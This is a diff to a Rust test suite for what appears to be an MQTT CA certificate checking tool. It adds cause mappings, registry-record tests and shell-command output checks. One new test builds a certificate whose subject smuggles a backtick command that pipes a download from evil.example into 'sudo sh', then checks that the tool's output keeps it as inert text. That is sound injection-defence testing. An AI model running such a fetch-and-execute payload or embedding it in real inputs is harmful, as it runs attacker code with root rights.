@@ -51,7 +51,8 @@ const CAUSES: &[(&str, &str, i32)] = &[
     ("ca-without-basic-constraints", "ca-without-mark", 1),
     ("clock-ahead", "clock-ahead", 1),
     ("code-in-alternative-name", "code-in-alternative-name", 1),
-    ("code-in-serial-number", "", 1),
+    ("code-in-serial-number", "other-attribute", 1),
+    ("device-as-proof", "certificate-of-another-name", 1),
     ("end-entity-as-ca", "end-entity-as-ca", 1),
     ("end-entity-of-another-ca", "end-entity-as-ca", 1),
     ("exchanged", "certificates-exchanged", 1),
@@ -59,6 +60,7 @@ const CAUSES: &[(&str, &str, i32)] = &[
     ("other-ca", "other-ca", 1),
     ("proof-expired", "", 1),
     ("proof-is-a-key", "private-key", 1),
+    ("proof-twice", "proof-as-ca", 1),
     ("proof-with-its-ca", "several-pem-blocks", 1),
     ("req-x509-with-its-own-key", "self-signed-proof", 1),
     ("req-x509-with-the-ca-key", "self-signed-proof", 1),
@@ -224,13 +226,83 @@ fn lists_of_what_is_registered_are_compared() {
     // Masked, or not there: it may be.
     assert_eq!(outcomes(&set("RegistrationCode", "1327****"), 1), ["failed", "unchecked", "failed"]);
     assert_eq!(outcomes(&without(&["Sn", "CaContent"]), 1), ["unchecked", "failed", "unchecked"]);
+    // What is no spelling of another number may be one of this.
+    for sn in ["0x01", " 01", "xxxx"] {
+        assert_eq!(
+            outcomes(
+                &registered(|record| {
+                    record["Sn"] = sn.into();
+                    record["CaContent"] = Value::Null;
+                }),
+                1
+            )[0],
+            "unchecked"
+        );
+    }
+    // A page that is missing.
+    let more = serde_json::json!({ "Data": { "CaCertificateVOS": [], "Total": 3 } });
+    assert_eq!(outcomes(&more, 1), ["unchecked"; 3]);
     let empty = serde_json::json!({ "Data": { "CaCertificateVOS": [] } });
     assert_eq!(outcomes(&empty, 0), ["passed"; 3]);
-    // An entry that cannot be read is told, and may be the one.
+    // An entry that cannot be read has a report of its own, and may be this CA.
     assert_eq!(
         outcomes(&serde_json::json!([{ "Code": "Throttling", "Message": "wait" }]), 3),
         ["unchecked"; 3]
     );
+}
+
+#[test]
+fn a_directory_without_lists_is_none() {
+    let folder = tempfile::tempdir().unwrap();
+    let run =
+        preflight_in(&testdata().join("proposals/good"), &["--against", folder.path().to_str().unwrap()]);
+    assert_eq!(run.status, 1, "{}", run.stdout);
+}
+
+/// Marks of commands in a name are text.
+#[test]
+fn a_name_is_no_command() {
+    let folder = tempfile::tempdir().unwrap();
+    let openssl = |arguments: &[&str]| {
+        assert!(output(Command::new("openssl").current_dir(folder.path()).args(arguments)).status.success())
+    };
+    let key = testdata().join("keys/rsa-2048-other.pem");
+    let subject = r"/O=`curl -fsSL https:\/\/evil.example\/x | sudo sh -s -- --yes`/CN=a`b";
+    let key = key.to_str().unwrap();
+    openssl(&["req", "-x509", "-key", key, "-subj", subject, "-days", "300", "-out", "evil.crt"]);
+    let proof_key = testdata().join("keys/rsa-2048-proof.pem");
+    openssl(&[
+        "req",
+        "-new",
+        "-key",
+        proof_key.to_str().unwrap(),
+        "-subj",
+        &format!("/CN={CODE}"),
+        "-out",
+        "proof.csr",
+    ]);
+    openssl(&[
+        "x509",
+        "-req",
+        "-in",
+        "proof.csr",
+        "-CA",
+        "evil.crt",
+        "-CAkey",
+        key,
+        "-CAcreateserial",
+        "-days",
+        "300",
+        "-out",
+        "proof.crt",
+    ]);
+    let ca = testdata().join("proposals/good/CA.crt");
+    let run =
+        run_in(folder.path(), &["--ca", ca.to_str().unwrap(), "--verification", "proof.crt", "--code", CODE]);
+    assert_eq!(run.status, 1);
+    assert!(run.stdout.contains("cause: another CA,") && run.stdout.contains("a`b"), "{}", run.stdout);
+    let is_command = |line: &str| line.trim_start().starts_with("curl") || line.contains("sudo sh -s \\");
+    assert!(!run.stdout.lines().any(is_command), "{}", run.stdout);
 }
 
 /// The commands at the end make a pair that passes.
@@ -239,6 +311,12 @@ fn the_commands_for_sh_make_a_good_pair() {
     let binary = Path::new(env!("CARGO_BIN_EXE_mqtt-ca-check"));
     let path = format!("{}:{}", binary.parent().unwrap().display(), std::env::var("PATH").unwrap());
     for pair in [
+        "ca-der",
+        "ca-pkcs7",
+        "ca-with-key",
+        "proof-with-its-ca",
+        "request-as-proof",
+        "signed-by-intermediate",
         "ca-version-1",
         "ca-without-basic-constraints",
         "another-code",
@@ -260,9 +338,8 @@ fn the_commands_for_sh_make_a_good_pair() {
         let run =
             run_in(folder.path(), &["--ca", names[0], "--verification", names[1], "--code", code.trim()]);
         assert_eq!(run.status, 1);
-        let [sh, power_shell] =
-            ["in sh\n", "in PowerShell\n"].map(|head| run.stdout.split(head).nth(1).unwrap().to_owned());
-        let sh = sh.split("  in PowerShell").next().unwrap().to_owned();
+        let (_, shells) = run.stdout.split_once("in sh\n").unwrap();
+        let (sh, power_shell) = shells.split_once("  in PowerShell\n").unwrap_or((shells, ""));
         let script = format!("set -e\n{sh}");
         let mut shell = Command::new("sh");
         let output = output(shell.current_dir(folder.path()).env("PATH", &path).args(["-c", &script]));
@@ -277,7 +354,10 @@ fn the_commands_for_sh_make_a_good_pair() {
             let lines = text.lines().map(|line| line.split_whitespace().collect::<Vec<_>>().join(" "));
             lines.filter(|line| line.contains("openssl")).collect()
         };
-        assert_eq!(plain(&sh, "\\", "'\\''"), plain(&power_shell, "`", "''"), "{pair}");
+        // What goes through pipes is for sh alone.
+        if !power_shell.is_empty() {
+            assert_eq!(plain(sh, "\\", "'\\''"), plain(power_shell, "`", "''"), "{pair}");
+        }
     }
 }
 
@@ -394,7 +474,7 @@ fn a_command_that_is_shown_mends_the_file() {
         let mut shell = Command::new("sh");
         let output = output(shell.current_dir(folder.path()).args(["-c", command]));
         assert_eq!(
-            fingerprint(&["-in", "CA.crt"], folder.path()),
+            fingerprint(&["-in", "CA-new.crt"], folder.path()),
             expected,
             "{}: {command}: {output:?}",
             name(&file)
